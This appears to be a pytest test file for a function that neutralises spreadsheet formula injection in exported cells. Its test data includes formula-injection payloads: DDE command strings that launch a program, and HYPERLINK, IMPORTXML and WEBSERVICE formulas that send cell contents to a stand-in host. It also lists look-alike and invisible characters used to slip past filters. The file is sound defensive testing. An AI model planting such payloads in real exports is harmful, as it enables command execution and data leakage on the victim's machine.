"""What people wrote is never run as a formula."""

import pytest

from exports.formulas import harmless

STARTERS = [*"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", "\u2212"]
BLANKS = ["", " ", "   ", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u202e", "\x00", "\t", "\r", "\n", "\x0b"]
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A2),"//a")',
    '=WEBSERVICE("http://example.org/"&A2)',
    "-1+1",
    "+49 30 123456",
    "-5 and falling",
    "=",
    "@ana",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_gets_an_apostrophe_and_keeps_its_words(attack: str) -> None:
    assert harmless(attack) == "'" + attack


@pytest.mark.parametrize("starter", STARTERS)
@pytest.mark.parametrize("blank", BLANKS)
def test_every_starter_is_kept_from_starting_also_after_blanks(starter: str, blank: str) -> None:
    assert harmless(f"{blank}{starter}1+1").startswith("'")


@pytest.mark.parametrize("words", ["\tsum", "\rsum", "\x00sum"])
def test_a_tab_a_return_and_a_nul_may_not_begin_a_cell(words: str) -> None:
    assert harmless(words) == "'" + words


@pytest.mark.parametrize("separator", [";", "; ", "\n", "\r\n", "\t", "\n\n  "])
def test_nothing_starts_where_another_separator_would_begin_a_cell(separator: str) -> None:
    guarded = harmless(f"Fine{separator}=1+1{separator}words")
    assert "=" not in [piece.lstrip()[:1] for piece in guarded.replace("\n", ";").replace("\t", ";").split(";")]
    assert guarded.replace("'", "") == f"Fine{separator}=1+1{separator}words"


@pytest.mark.parametrize("number", ["-5", "+5", "-0.5", "-3,25", "7", "0", "100"])
def test_a_plain_number_stays_one(number: str) -> None:
    assert harmless(number) == number


@pytest.mark.parametrize(
    "words",
    [
        "",
        "Rain.",
        "1 + 1 = 2",
        "ana@example.org",
        "well-being",
        "'quoted'",
        '"=1"',
        "مرحبا",
        "😀 fine",
        "first\nsecond",
        "a; b",
        "(-5)",
    ],
)
def test_ordinary_words_stay_as_they_are(words: str) -> None:
    assert harmless(words) == words


def test_blanks_without_end_take_no_time_to_speak_of() -> None:
    words = "\n" * 100_000 + " " * 100_000
    assert harmless(words) == words
